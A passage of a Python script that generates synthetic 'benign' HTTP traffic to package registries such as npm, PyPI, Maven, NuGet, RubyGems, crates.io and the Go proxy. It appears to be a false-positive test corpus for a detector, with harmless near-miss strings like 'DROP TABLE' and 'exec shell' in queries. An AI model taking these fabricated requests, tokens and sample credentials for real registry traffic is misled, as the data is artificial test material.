            req("benign", "npm-dist-tags", "PUT", "/-/package/%s/dist-tags/%s" % (npm_enc(name), pick(["next", "beta", "canary", "v2-lts"])),
                npm_headers(host, cmd="dist-tag", auth=True), json.dumps(ver + "-beta.%d" % i), "application/json")
        else:
            req("benign", "npm-dist-tags", "DELETE", "/-/package/%s/dist-tags/canary" % npm_enc(name),
                npm_headers(host, cmd="dist-tag", auth=True))
    # search
    queries = ["react hooks", "keywords:sql select", "author:sindresorhus", "maintainer:acme-bot is:unstable",
               "scope:types node", "drop-in replacement for moment", "union type guard", "exec child process wrapper"]
    for qtext in queries:
        req("benign", "npm-search", "GET",
            "/-/v1/search?text=%s&size=20&from=0&quality=0.65&popularity=0.98&maintenance=0.5" % q(qtext),
            npm_headers(pick(NPM_HOSTS), cmd="search", accept="application/json"))
    # whoami, login, audit, deprecate
    req("benign", "npm-whoami", "GET", "/-/whoami", npm_headers("registry.npmjs.org", cmd="whoami", auth=True))
    req("benign", "npm-login", "POST", "/-/v1/login",
        npm_headers("registry.npmjs.org", cmd="login", accept="application/json"),
        json.dumps({"hostname": "build-agent-07"}), "application/json")
    req("benign", "npm-adduser", "PUT", "/-/user/org.couchdb.user:zoe.laurent",
        npm_headers("verdaccio.build.example.net", cmd="adduser", accept="application/json"),
        json.dumps({"_id": "org.couchdb.user:zoe.laurent", "name": "zoe.laurent", "password": "c0rrect-h0rse-Battery!",
                    "type": "user", "roles": [], "date": "2026-11-30T09:14:02.118Z"}), "application/json")
    for i in range(3):
        body = {n: [v, "4.17.%d" % R.randint(10, 21)] for n, v in R.sample(NPM_PKGS, 6)}
        req("benign", "npm-audit", "POST", "/-/npm/v1/security/advisories/bulk",
            npm_headers(pick(NPM_HOSTS), cmd="audit", accept="application/json",
                        extra=[["Content-Encoding", "identity"]]),
            json.dumps(body), "application/json")
    name, ver = NPM_PKGS[29]
    req("benign", "npm-deprecate", "PUT", "/%s/-rev/12-%s" % (npm_enc(name), rhex(32)),
        npm_headers("registry.npmjs.org", cmd="deprecate", auth=True),
        json.dumps({"_id": name, "name": name, "versions": {ver: {"name": name, "version": ver,
                    "deprecated": "Use `DROP TABLE IF EXISTS` migrations from @sql-kit/query-builder >= 2 instead"}}}),
        "application/json")

# ===========================================================================
# BENIGN: PyPI
# ===========================================================================

PY_HOSTS = ["pypi.org", "pypi.acme-internal.dev", "devpi.build.example.net", "nexus.example.net"]
PY_PKGS = [
    ("requests", "2.32.3"), ("Django", "5.1.2"), ("zope.interface", "7.1.0"),
    ("backports.zoneinfo", "0.2.1"), ("typing_extensions", "4.12.2"), ("ruamel.yaml", "0.18.6"),
    ("scikit-learn", "1.5.2"), ("PyYAML", "6.0.2"), ("acme-billing-client", "2.4.0"),
    ("jaraco.functools", "4.1.0"), ("sphinxcontrib-applehelp", "2.0.0"), ("google-cloud-storage", "2.18.2"),
    ("pydantic_core", "2.23.4"), ("SQLAlchemy", "2.0.36"), ("psycopg2-binary", "2.9.10"),
    ("drop-table-guard", "0.1.3"), ("shell-escape-utils", "1.0.0"), ("torch", "2.5.0"),
]
PIP_ACCEPT = "application/vnd.pypi.simple.v1+json, application/vnd.pypi.simple.v1+html; q=0.1, text/html; q=0.01"

CLASSIFIERS = [
    "Development Status :: 5 - Production/Stable", "Development Status :: 3 - Alpha",
    "Intended Audience :: Developers", "License :: OSI Approved :: MIT License",
    "License :: OSI Approved :: Apache Software License", "Operating System :: OS Independent",
    "Programming Language :: Python :: 3", "Programming Language :: Python :: 3 :: Only",
    "Programming Language :: Python :: 3.12", "Framework :: Django :: 5.1",
    "Topic :: Database :: Front-Ends", "Topic :: Software Development :: Libraries :: Python Modules",
    "Topic :: System :: Shells", "Typing :: Typed", "Natural Language :: Japanese",
]
REQUIRES_DIST = [
    "requests (>=2.28,<3)", "typing-extensions>=4.7; python_version < \"3.11\"",
    "SQLAlchemy[asyncio]>=2.0", "pytest>=8 ; extra == 'test'", "tomli>=1.1.0; python_version<'3.11'",
    "numpy>=1.24,!=1.25.0", "importlib-metadata>=6.0; python_version < \"3.10\"",
    "click~=8.1", "pydantic>=2.5,<3", "colorama; sys_platform == 'win32'",
]


def py_norm(name):
    import re
    return re.sub(r"[-_.]+", "-", name).lower()


def rst_description(name, summary):
    return ("%s\n%s\n\n%s\n\n.. image:: https://img.shields.io/pypi/v/%s.svg\n   :target: https://pypi.org/project/%s/\n\n"
            "Installation\n------------\n\n.. code-block:: console\n\n   $ pip install %s\n\n"
            "Usage\n-----\n\n.. code-block:: python\n\n   >>> import %s\n   >>> %s.__version__\n   '1.0'\n\n"
            "See :mod:`%s.core` and :func:`%s.core.select` for details. Works with ``../data`` relative paths.\n"
            % (name, "=" * len(name), summary, name, name, name, py_norm(name).replace("-", "_"),
               py_norm(name).replace("-", "_"), py_norm(name).replace("-", "_"), py_norm(name).replace("-", "_")))


def make_wheel(name, version, desc):
    mod = py_norm(name).replace("-", "_")
    dist = "%s-%s.dist-info" % (mod, version)
    meta = "Metadata-Version: 2.3\nName: %s\nVersion: %s\nSummary: %s\n\n%s" % (name, version, desc[:80], desc)
    return make_zip({
        "%s/__init__.py" % mod: '"""%s"""\n__version__ = "%s"\nfrom .core import *  # noqa\n' % (desc[:60], version),
        "%s/core.py" % mod: "import os\n\nDATA = os.path.join(os.path.dirname(__file__), '..', 'data')\n\n"
                            "def select(rows, where=None):\n    return [r for r in rows if where is None or where(r)]\n",
        "%s/METADATA" % dist: meta,
        "%s/WHEEL" % dist: "Wheel-Version: 1.0\nGenerator: hatchling 1.25.0\nRoot-Is-Purelib: true\nTag: py3-none-any\n",
        "%s/RECORD" % dist: "%s/__init__.py,sha256=%s,120\n" % (mod, rhex(43)),
    })


def benign_pypi():
    for i in range(15):
        name, ver = PY_PKGS[i % len(PY_PKGS)]
        host = pick(PY_HOSTS)
        path = "/simple/%s/" % py_norm(name) if host != "nexus.example.net" else \
            "/repository/pypi-group/simple/%s/" % py_norm(name)
        hs = [["Host", host], ["User-Agent", pick(PIP_UAS)], ["Accept", PIP_ACCEPT],
              ["Accept-Encoding", "gzip, deflate"], ["Cache-Control", "max-age=0"], ["Connection", "keep-alive"]]
        if i % 3 == 0:
            hs.append(["Authorization", "Basic " + b64("ci-reader:" + ralnum(24))])
        req("benign", "pypi-simple", "GET", path, hs)
    for i in range(10):
        name, ver = pick(PY_PKGS)
        path = "/pypi/%s/json" % name if i % 2 else "/pypi/%s/%s/json" % (name, ver)
        req("benign", "pypi-json", "GET", path,
            [["Host", "pypi.org"], ["User-Agent", pick([RENOVATE_UA, DEPENDABOT_UA, "python-requests/2.32.3", "pip-audit/2.7.3"])],
             ["Accept", "application/json"], ["Accept-Encoding", "gzip"]])
    for i in range(5):
        name, ver = pick(PY_PKGS)
        n = py_norm(name).replace("-", "_")
        fname = "%s-%s-py3-none-any.whl" % (n, ver) + (".metadata" if i % 2 else "")
        req("benign", "pypi-file", "GET", "/packages/%s/%s/%s/%s" % (rhex(2), rhex(2), rhex(60), fname),
            [["Host", "files.pythonhosted.org"], ["User-Agent", pick(PIP_UAS)], ["Accept", "*/*"],
             ["Accept-Encoding", "gzip, deflate"], ["Range", "bytes=%d-" % (R.randint(1, 9) * 1024)] if i == 4 else ["Connection", "keep-alive"]])
    for qtext in ["sql builder", "yaml ; safe", "drop-in replacement for requests", "shell completion", "select async"]:
        req("benign", "pypi-search", "GET", "/search/?q=%s&o=-created&c=%s" % (qp(qtext), qp(pick(CLASSIFIERS))),
            [["Host", "pypi.org"], ["User-Agent", pick(BROWSERS)], ["Accept", "text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8"],
             ["Accept-Language", "en-US,en;q=0.7"], ["Referer", "https://pypi.org/"]])
    # legacy uploads (multipart with a real wheel)
    summaries = ["Async SQL query builder with typed select/union helpers",
                 "Guard your migrations against accidental DROP TABLE",
                 "Shell escaping helpers for subprocess calls", "YAML round-trip with comments"] + UNICODE_DESC[:4]
    for i in range(15):
        name, ver = pick(PY_PKGS)
        summary = pick(summaries)
        rst = i % 4 == 3
        desc = rst_description(name, summary) if rst else md_readme(name, summary, kind="py")
        whl = make_wheel(name, ver, summary)
        fields = [(":action", "file_upload"), ("protocol_version", "1"), ("metadata_version", "2.3"),
                  ("name", name), ("version", ver), ("filetype", "bdist_wheel"), ("pyversion", "py3"),
                  ("summary", summary), ("description", desc),
                  ("description_content_type", "text/x-rst" if rst else "text/markdown; charset=UTF-8; variant=GFM"),
                  ("author", pick(PEOPLE)[0]), ("author_email", pick(PEOPLE)[1]),
                  ("license", pick(LICENSES)), ("keywords", "sql,yaml,cli,select,shell"),
                  ("requires_python", pick([">=3.9", ">=3.8,<4", "~=3.11"]))]
        for c in R.sample(CLASSIFIERS, 5):
            fields.append(("classifiers", c))
        for d in R.sample(REQUIRES_DIST, 3):
            fields.append(("requires_dist", d))
        fields += [("project_urls", "Homepage, https://github.com/acme/%s" % py_norm(name)),
                   ("project_urls", "Changelog, https://github.com/acme/%s/blob/main/CHANGES.rst#v%s" % (py_norm(name), ver.replace(".", ""))),
                   ("md5_digest", hashlib.md5(whl).hexdigest()), ("sha256_digest", sha256_of(whl)),
                   ("blake2_256_digest", hashlib.blake2b(whl, digest_size=32).hexdigest()),
                   ("content", "%s-%s-py3-none-any.whl" % (py_norm(name).replace("-", "_"), ver), "application/octet-stream", whl)]
        bnd, body = multipart_bytes(fields)
        raw("benign", "pypi-upload", "POST", "/legacy/",
            [["Host", pick(["upload.pypi.org", "pypi.acme-internal.dev"])], ["User-Agent", pick(TWINE_UAS)],
             ["Accept", "*/*"], ["Authorization", "Basic " + b64("__token__:pypi-AgEIcHlwaS5vcmc" + ralnum(60))],
             ["Content-Type", "multipart/form-data; boundary=" + bnd]], body)


# ===========================================================================
# BENIGN: Maven / Gradle
# ===========================================================================

MVN_HOSTS = ["repo.maven.apache.org", "nexus.example.net", "artifactory.acme.io", "maven.pkg.github.com", "repo1.maven.org"]
MVN = [
    ("org.springframework.boot", "spring-boot-starter-web", "3.3.4"),
    ("com.fasterxml.jackson.core", "jackson-databind", "2.17.2"),
    ("io.netty", "netty-handler", "4.1.114.Final"), ("org.apache.commons", "commons-lang3", "3.17.0"),
    ("com.acme.platform", "billing-api", "1.4.0-SNAPSHOT"), ("org.jetbrains.kotlin", "kotlin-stdlib", "2.0.21"),
    ("com.google.guava", "guava", "33.3.1-jre"), ("ch.qos.logback", "logback-classic", "1.5.8"),
    ("org.apache.logging.log4j", "log4j-core", "2.24.1"), ("org.postgresql", "postgresql", "42.7.4"),
    ("com.h2database", "h2", "2.3.232"), ("org.mybatis", "mybatis", "3.5.16"),
]


def mvn_path(g, a, v, ext, classifier=None, prefix="/maven2"):
    fn = "%s-%s%s.%s" % (a, v, "-" + classifier if classifier else "", ext)
    return "%s/%s/%s/%s/%s" % (prefix, g.replace(".", "/"), a, v, fn)


def mvn_headers(host, auth=False, extra=()):
    hs = [["Host", host], ["User-Agent", pick(MAVEN_UAS)], ["Accept-Encoding", "gzip,deflate"],
          ["Cache-control", "no-cache"], ["Pragma", "no-cache"], ["Connection", "Keep-Alive"]]
    if auth:
        hs.append(["Authorization", "Basic " + b64("deployer:" + ralnum(20))])
    hs.extend([list(e) for e in extra])
    return hs


def make_pom(g, a, v, deps=3):
    dl = []
    for dg, da, dv in R.sample(MVN, deps):
        rng = pick([dv, "[%s,%d.0)" % (dv.split("-")[0], int(dv.split(".")[0]) + 1), "${%s.version}" % da.split("-")[0]])
        dl.append("    <dependency>\n      <groupId>%s</groupId>\n      <artifactId>%s</artifactId>\n"
                  "      <version>%s</version>%s\n    </dependency>" % (dg, da, rng, pick(["", "\n      <scope>test</scope>", "\n      <optional>true</optional>"])))
    return ('<?xml version="1.0" encoding="UTF-8"?>\n'
            '<project xmlns="http://maven.apache.org/POM/4.0.0" xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance"\n'
            '         xsi:schemaLocation="http://maven.apache.org/POM/4.0.0 https://maven.apache.org/xsd/maven-4.0.0.xsd">\n'
            '  <modelVersion>4.0.0</modelVersion>\n  <groupId>%s</groupId>\n  <artifactId>%s</artifactId>\n'
            '  <version>%s</version>\n  <packaging>jar</packaging>\n  <name>%s</name>\n'
            '  <description>%s</description>\n  <url>https://github.com/acme/%s</url>\n'
            '  <licenses>\n    <license>\n      <name>Apache License, Version 2.0</name>\n'
            '      <url>https://www.apache.org/licenses/LICENSE-2.0.txt</url>\n    </license>\n  </licenses>\n'
            '  <properties>\n    <maven.compiler.release>17</maven.compiler.release>\n'
            '    <project.build.sourceEncoding>UTF-8</project.build.sourceEncoding>\n  </properties>\n'
            '  <dependencies>\n%s\n  </dependencies>\n'
            '  <build>\n    <plugins>\n      <plugin>\n        <groupId>org.apache.maven.plugins</groupId>\n'
            '        <artifactId>maven-surefire-plugin</artifactId>\n        <version>3.5.1</version>\n'
            '        <configuration>\n          <argLine>-Xmx1g -Dfile.encoding=UTF-8</argLine>\n'
            '          <includes><include>**/*Test.java</include></includes>\n        </configuration>\n'
            '      </plugin>\n    </plugins>\n  </build>\n</project>\n'
            % (g, a, v, a, pick(["Billing API client &amp; DTOs", "SQL select/union helpers for JDBC",
                                 "Ünïcode-safe string utilities", "Shared logging configuration"]), a, "\n".join(dl)))


def make_metadata(g, a, versions):
    return ('<?xml version="1.0" encoding="UTF-8"?>\n<metadata>\n  <groupId>%s</groupId>\n  <artifactId>%s</artifactId>\n'
            '  <versioning>\n    <latest>%s</latest>\n    <release>%s</release>\n    <versions>\n%s\n    </versions>\n'
            '    <lastUpdated>20261130%06d</lastUpdated>\n  </versioning>\n</metadata>\n'
            % (g, a, versions[-1], versions[-1], "\n".join("      <version>%s</version>" % v for v in versions), R.randrange(10 ** 6)))


def benign_maven():
    for i in range(15):
        g, a, v = MVN[i % len(MVN)] if i < 12 else pick(MVN)
        ext = pick(["jar", "pom", "jar.sha1", "pom.asc", "module"])
        cls = "sources" if ext == "jar" and i % 4 == 0 else None
        host = pick(MVN_HOSTS)
        prefix = {"nexus.example.net": "/repository/maven-public", "artifactory.acme.io": "/artifactory/libs-release",
                  "maven.pkg.github.com": "/acme/platform"}.get(host, "/maven2")
        req("benign", "maven-get", "GET", mvn_path(g, a, v, ext, cls, prefix), mvn_headers(host, auth=host != "repo.maven.apache.org"))
    for i in range(10):
        g, a, v = pick(MVN)
        g2 = "com.acme." + pick(["platform", "infra", "data.pipeline", "ml_serving"])
        pom = make_pom(g2, a, v)
        req("benign", "maven-put-pom", "PUT", mvn_path(g2, a, v, "pom", prefix=pick(["/repository/maven-releases", "/artifactory/libs-release-local"])),
            mvn_headers(pick(MVN_HOSTS[1:3]), auth=True), pom, "text/xml")
    for i in range(5):
        g, a, v = pick(MVN)
        jar = make_zip({"META-INF/MANIFEST.MF": "Manifest-Version: 1.0\r\nCreated-By: Maven JAR Plugin 3.4.1\r\nBuild-Jdk-Spec: 17\r\n",
                        "com/acme/%s/Main.class" % a.replace("-", ""): b"\xca\xfe\xba\xbe\x00\x00\x00\x3d" + rbytes(300),
                        "META-INF/maven/%s/%s/pom.properties" % (g, a): "artifactId=%s\ngroupId=%s\nversion=%s\n" % (a, g, v)})
        raw("benign", "maven-put-jar", "PUT", mvn_path("com.acme.platform", a, v, "jar", prefix="/repository/maven-releases"),
            mvn_headers("nexus.example.net", auth=True), jar, "application/java-archive")
    for i in range(8):
        g, a, v = pick(MVN)
        if i % 2:
            req("benign", "maven-metadata", "GET", "/maven2/%s/%s/maven-metadata.xml" % (g.replace(".", "/"), a),
                mvn_headers(pick(MVN_HOSTS), extra=[["If-Modified-Since", "Sat, 30 Nov 2026 08:12:44 GMT"]]))
        else:
            md = make_metadata("com.acme.platform", a, ["1.0.0", "1.1.0", "1.2.0-RC1", v])
            req("benign", "maven-metadata", "PUT", "/repository/maven-releases/com/acme/platform/%s/maven-metadata.xml" % a,
                mvn_headers("nexus.example.net", auth=True), md, "application/xml")
    for i in range(7):
        g, a, v = pick(MVN)
        algo = pick(["sha1", "md5", "sha256", "sha512"])
        n = {"sha1": 40, "md5": 32, "sha256": 64, "sha512": 128}[algo]
        req("benign", "maven-checksum", "PUT", mvn_path("com.acme.platform", a, v, "jar." + algo, prefix="/artifactory/libs-release-local"),
            mvn_headers("artifactory.acme.io", auth=True, extra=[["X-Checksum-Deploy", "false"]]), rhex(n), "text/plain")

# ===========================================================================
# BENIGN: NuGet, RubyGems
# ===========================================================================

NUGET_PKGS = [("Newtonsoft.Json", "13.0.3"), ("Serilog.Sinks.Console", "6.0.0"),
              ("Microsoft.Extensions.Logging", "8.0.1"), ("Acme.Billing.Client", "1.2.0"),
              ("Polly", "8.4.2"), ("Dapper", "2.1.35"), ("xunit.runner.visualstudio", "2.8.2"),
              ("Npgsql.EntityFrameworkCore.PostgreSQL", "8.0.10"), ("System.Text.Json", "8.0.5")]


def nuget_headers(host, extra=()):
    hs = [["Host", host], ["User-Agent", pick(NUGET_UAS)], ["X-NuGet-Client-Version", "6.11.0"],
          ["X-NuGet-Session-Id", uuid4()], ["Accept-Encoding", "gzip, deflate"], ["Accept-Language", "en-US"]]
    hs.extend([list(e) for e in extra])
    return hs


def make_nuspec(pid, ver, desc):
    return ('<?xml version="1.0" encoding="utf-8"?>\n<package xmlns="http://schemas.microsoft.com/packaging/2013/05/nuspec.xsd">\n'
            '  <metadata>\n    <id>%s</id>\n    <version>%s</version>\n    <authors>Acme Platform Team</authors>\n'
            '    <license type="expression">MIT</license>\n    <projectUrl>https://github.com/acme/%s</projectUrl>\n'
            '    <description>%s</description>\n    <releaseNotes>Fixed SQL select with UNION in reporting queries; see #412.</releaseNotes>\n'
            '    <tags>billing sdk dotnet select</tags>\n    <dependencies>\n      <group targetFramework="net8.0">\n'
            '        <dependency id="Polly" version="[8.0.0, 9.0.0)" exclude="Build,Analyzers" />\n'
            '        <dependency id="System.Text.Json" version="8.0.5" />\n      </group>\n    </dependencies>\n'
            '  </metadata>\n</package>\n' % (pid, ver, pid.lower(), desc))


def benign_nuget():
    for host in ["api.nuget.org", "nuget.acme-internal.dev", "pkgs.dev.azure.com"]:
        path = "/v3/index.json" if host != "pkgs.dev.azure.com" else "/acme/_packaging/acme-feed/nuget/v3/index.json"
        req("benign", "nuget-index", "GET", path, nuget_headers(host))
    for qtext in ["json", "packageid:Serilog.Sinks.Console", "logging tags:serilog", "owner:acme billing", "dapper sql", "tags:\"entity framework\""]:
        req("benign", "nuget-search", "GET", "/query?q=%s&skip=0&take=26&prerelease=true&semVerLevel=2.0.0" % q(qtext),
            nuget_headers("azuresearch-usnc.nuget.org"))
    for i in range(4):
        pid, ver = pick(NUGET_PKGS)
        req("benign", "nuget-registration", "GET", "/v3/registration5-gz-semver2/%s/index.json" % pid.lower(),
            nuget_headers("api.nuget.org"))
    for i in range(5):
        pid, ver = pick(NUGET_PKGS)
        p = "/v3-flatcontainer/%s/index.json" % pid.lower() if i % 2 else \
            "/v3-flatcontainer/%s/%s/%s.%s.nupkg" % (pid.lower(), ver, pid.lower(), ver)
        req("benign", "nuget-flat", "GET", p, nuget_headers("api.nuget.org"))
    for i in range(5):
        pid, ver = NUGET_PKGS[3] if i < 3 else pick(NUGET_PKGS)
        ver = "%s.%d" % (ver.rsplit(".", 1)[0], i + 1)
        nupkg = make_zip({"%s.nuspec" % pid: make_nuspec(pid, ver, pick(UNICODE_DESC + ["Client for the Acme billing API"])),
                          "lib/net8.0/%s.dll" % pid: b"MZ\x90\x00" + rbytes(400),
                          "[Content_Types].xml": '<?xml version="1.0" encoding="utf-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="nuspec" ContentType="application/octet" /></Types>'})
        bnd, body = multipart_bytes([("package", "package.nupkg", "application/octet-stream", nupkg)], boundary=uuid4())
        raw("benign", "nuget-push", "PUT", "/api/v2/package/",
            nuget_headers(pick(["www.nuget.org", "nuget.acme-internal.dev"]),
                          extra=[["X-NuGet-ApiKey", "oy2" + ralnum(43, "abcdefghijklmnopqrstuvwxyz0123456789")],
                                 ["X-NuGet-Protocol-Version", "4.1.0"],
                                 ["Content-Type", 'multipart/form-data; boundary="%s"' % bnd]]), body)
    for i in range(2):
        req("benign", "nuget-unlist", "DELETE", "/api/v2/package/Acme.Billing.Client/1.2.%d" % i,
            nuget_headers("nuget.acme-internal.dev", extra=[["X-NuGet-ApiKey", "oy2" + ralnum(43, "abcdefghijklmnopqrstuvwxyz0123456789")]]))


GEMS = [("rails", "7.2.1.2"), ("nokogiri", "1.16.7"), ("rack-attack", "6.7.0"), ("acme_billing", "0.9.1"),
        ("aws-sdk-s3", "1.169.0"), ("sidekiq", "7.3.2"), ("pg", "1.5.8"), ("dry-validation", "1.10.0"), ("sql_tracker", "1.4.0")]


def gem_headers(host="rubygems.org", extra=()):
    hs = [["Host", host], ["User-Agent", pick(GEM_UAS)], ["Accept", "*/*"], ["Accept-Encoding", "gzip;q=1.0,deflate;q=0.6,identity;q=0.3"],
          ["Connection", "keep-alive"]]
    for k, v in extra:  # an extra header replaces a default of the same name
        for h in hs:
            if h[0].lower() == k.lower():
                h[1] = v
                break
        else:
            hs.append([k, v])
    return hs


def benign_rubygems():
    for i in range(4):
        g, v = pick(GEMS)
        req("benign", "gem-api", "GET", pick(["/api/v1/gems/%s.json", "/api/v1/versions/%s.json", "/api/v2/rubygems/%s/versions/" + v + ".json"]) % g,
            gem_headers(extra=[["Accept", "application/json"]]))
    for i in range(5):
        g, v = pick(GEMS)
        p = pick(["/info/%s" % g, "/versions", "/gems/%s-%s.gem" % (g, v), "/quick/Marshal.4.8/%s-%s.gemspec.rz" % (g, v)])
        extra = [["If-None-Match", '"%s"' % rhex(32)], ["Range", "bytes=%d-" % R.randint(1000, 900000)]] if p == "/versions" else []
        req("benign", "gem-compact", "GET", p, gem_headers(pick(["rubygems.org", "index.rubygems.org", "gems.acme-internal.dev"]), extra))
    req("benign", "gem-deps", "GET", "/api/v1/dependencies?gems=rails,rack,nokogiri,sql_tracker", gem_headers())
    for qtext in ["sql", "drop table", "select2-rails", "exec shell"]:
        req("benign", "gem-search", "GET", "/api/v1/search.json?query=%s&page=1" % qp(qtext), gem_headers(extra=[["Accept", "application/json"]]))
    for i in range(4):
        g, v = GEMS[3] if i % 2 else pick(GEMS)
        spec = ("--- !ruby/object:Gem::Specification\nname: %s\nversion: !ruby/object:Gem::Version\n  version: %s\n"
                "platform: ruby\nauthors:\n- %s\nsummary: %s\nlicenses:\n- MIT\ndependencies:\n"
                "- !ruby/object:Gem::Dependency\n  name: faraday\n  requirement: !ruby/object:Gem::Requirement\n"
                "    requirements:\n    - - \"~>\"\n      - !ruby/object:Gem::Version\n        version: '2.7'\n"
                "  type: :runtime\nrequired_ruby_version: !ruby/object:Gem::Requirement\n  requirements:\n  - - \">=\"\n"
                "    - !ruby/object:Gem::Version\n      version: 3.1.0\n" % (g, v, pick(PEOPLE)[0], pick(UNICODE_DESC)))
        bio = io.BytesIO()
        with tarfile.open(fileobj=bio, mode="w", format=tarfile.USTAR_FORMAT) as tf:
            for nm, data in [("metadata.gz", gzip.compress(spec.encode(), mtime=0)),
                             ("data.tar.gz", make_tgz({"lib/%s.rb" % g: "module %s\n  VERSION = '%s'\nend\n" % (g.title().replace("_", ""), v)}, prefix=""))]:
                ti = tarfile.TarInfo(nm)
                ti.size = len(data)
                ti.mtime = MTIME
                tf.addfile(ti, io.BytesIO(data))
        raw("benign", "gem-push", "POST", "/api/v1/gems",
            gem_headers(pick(["rubygems.org", "gems.acme-internal.dev"]),
                        [["Authorization", "rubygems_" + rhex(48)], ["Content-Type", "application/octet-stream"]]),
            bio.getvalue())
    req("benign", "gem-yank", "DELETE", "/api/v1/gems/yank",
        gem_headers(extra=[["Authorization", "rubygems_" + rhex(48)]]), form([("gem_name", "acme_billing"), ("version", "0.9.0")]),
        "application/x-www-form-urlencoded")
    req("benign", "gem-owners", "GET", "/api/v1/gems/acme_billing/owners.json", gem_headers(extra=[["Authorization", "rubygems_" + rhex(48)]]))


# ===========================================================================
# BENIGN: crates.io, Go module proxy
# ===========================================================================

CRATES = [("serde", "1.0.210"), ("serde_json", "1.0.128"), ("tokio", "1.40.0"), ("syn", "2.0.79"),
          ("rand", "0.8.5"), ("regex-syntax", "0.8.5"), ("proc-macro2", "1.0.86"), ("a", "0.1.0"),
          ("ab", "0.3.1"), ("abc", "0.1.2"), ("http-body-util", "0.1.2"), ("tracing-subscriber", "0.3.18"),
          ("sqlx-core", "0.8.2"), ("unicode-ident", "1.0.13")]


def crate_index_path(name):
    n = name.lower()
    if len(n) == 1:
        return "/1/" + n
    if len(n) == 2:
        return "/2/" + n
    if len(n) == 3:
        return "/3/%s/%s" % (n[0], n)
    return "/%s/%s/%s" % (n[:2], n[2:4], n)


def benign_crates():
    req("benign", "crates-index", "GET", "/config.json",
        [["Host", "index.crates.io"], ["User-Agent", pick(CARGO_UAS)], ["Accept", "*/*"], ["Accept-Encoding", "gzip"]])
    for i in range(11):
        name, ver = CRATES[i]
        hs = [["Host", pick(["index.crates.io", "cargo.acme-internal.dev"])], ["User-Agent", pick(CARGO_UAS)],
              ["Accept", "*/*"], ["Accept-Encoding", "gzip"], ["cargo-protocol", "version=1"]]
        if i % 2:
            hs.append(["If-None-Match", '"%s"' % rhex(32)])
        else:
            hs.append(["If-Modified-Since", "Fri, 29 Nov 2026 %02d:%02d:11 GMT" % (R.randrange(24), R.randrange(60))])
        req("benign", "crates-sparse", "GET", crate_index_path(name), hs)
    api = ["/api/v1/crates?q=async%20runtime&per_page=10", "/api/v1/crates/serde/1.0.210/download",
           "/api/v1/crates/tokio/owners", "/api/v1/crates/serde/versions", "/api/v1/crates?q=sql+select&sort=downloads",
           "/api/v1/crates/sqlx-core/reverse_dependencies?page=1&per_page=10", "/api/v1/summary"]
    for p in api:
        req("benign", "crates-api", "GET", p, [["Host", "crates.io"], ["User-Agent", pick(CARGO_UAS + [RENOVATE_UA])],
                                                ["Accept", "application/json"]])
    for i in range(5):
        name = pick(["acme-billing", "sql_select_macros", "tiny-union-find", "drop-guard", "shell-words-ext"])
        ver = "0.%d.%d" % (R.randint(1, 9), R.randint(0, 20))
        meta = {"name": name, "vers": ver, "deps": [
            {"name": "serde", "version_req": "^1.0", "features": ["derive"], "optional": False, "default_features": True,
             "target": None, "kind": "normal", "registry": None, "explicit_name_in_toml": None},
            {"name": "tokio", "version_req": ">=1.32, <2", "features": ["rt-multi-thread", "macros"], "optional": True,
             "default_features": False, "target": "cfg(unix)", "kind": "normal", "registry": None, "explicit_name_in_toml": None}],
            "features": {"default": ["std"], "std": [], "async": ["dep:tokio"]}, "authors": ["%s <%s>" % pick(PEOPLE)],
            "description": pick(UNICODE_DESC + ["Macros for compile-time checked SQL SELECT statements"]),
            "documentation": "https://docs.rs/" + name, "homepage": None,
            "readme": "# %s\n\n```rust\nuse %s::prelude::*;\n\nfn main() -> anyhow::Result<()> {\n    let q = select!(id, name from users where id = 1);\n    println!(\"{q}\");\n    Ok(())\n}\n```\n" % (name, name.replace("-", "_")),
            "readme_file": "README.md", "keywords": ["sql", "macro", "union-find", "no-std"][: R.randint(1, 4)],
            "categories": ["database", "development-tools::procedural-macro-helpers"], "license": "MIT OR Apache-2.0",
            "license_file": None, "repository": "https://github.com/acme/%s" % name, "badges": {}, "links": None, "rust_version": "1.70"}
        crate = make_tgz({"Cargo.toml": '[package]\nname = "%s"\nversion = "%s"\nedition = "2021"\n' % (name, ver),
                          "src/lib.rs": "//! %s\n#![forbid(unsafe_code)]\npub mod prelude {}\n" % name + "// %s\n" % rhex(200)},
                         prefix="%s-%s/" % (name, ver))
        mj = json.dumps(meta, ensure_ascii=False).encode("utf-8")
        body = struct.pack("<I", len(mj)) + mj + struct.pack("<I", len(crate)) + crate
        raw("benign", "crates-publish", "PUT", "/api/v1/crates/new",
            [["Host", pick(["crates.io", "cargo.acme-internal.dev"])], ["User-Agent", pick(CARGO_UAS)], ["Accept", "application/json"],
             ["Authorization", "cio" + ralnum(32)]], body, "application/octet-stream")
    req("benign", "crates-yank", "DELETE", "/api/v1/crates/drop-guard/0.1.3/yank",
        [["Host", "crates.io"], ["User-Agent", pick(CARGO_UAS)], ["Accept", "application/json"], ["Authorization", "cio" + ralnum(32)]])


GO_MODS = [("github.com/Azure/azure-sdk-for-go/sdk/azcore", "v1.15.0"), ("github.com/BurntSushi/toml", "v1.4.0"),
           ("golang.org/x/net", "v0.30.0"), ("google.golang.org/grpc", "v1.67.1"), ("github.com/spf13/cobra", "v1.8.1"),
           ("gopkg.in/yaml.v3", "v3.0.1"), ("go.uber.org/zap", "v1.27.0"), ("k8s.io/client-go", "v0.31.1"),
           ("github.com/Masterminds/semver/v3", "v3.3.0"), ("github.com/jackc/pgx/v5", "v5.7.1"),
           ("git.acme-internal.dev/platform/billing-go", "v0.0.0-20261128094512-7c1d2a9f0b3e"),
           ("github.com/DATA-DOG/go-sqlmock", "v1.5.2")]


def go_escape(path):
    return "".join("!" + c.lower() if c.isupper() else c for c in path)


def benign_goproxy():
    for i in range(22):
        mod, ver = GO_MODS[i % len(GO_MODS)]
        suffix = pick(["@v/list", "@v/%s.info" % ver, "@v/%s.mod" % ver, "@v/%s.zip" % ver, "@latest"])
        host = pick(["proxy.golang.org", "goproxy.acme-internal.dev", "athens.build.example.net"])
        req("benign", "go-proxy", "GET", "/%s/%s" % (go_escape(mod), suffix),
            [["Host", host], ["User-Agent", pick(GO_UAS)], ["Accept-Encoding", "gzip"]] +
            ([["Authorization", "Basic " + b64("go:" + ralnum(30))]] if "acme" in host else []))
    for i in range(4):
        mod, ver = pick(GO_MODS)
        p = pick(["/lookup/%s@%s" % (go_escape(mod), ver), "/tile/8/0/x%03d/%03d" % (R.randrange(200), R.randrange(1000)),
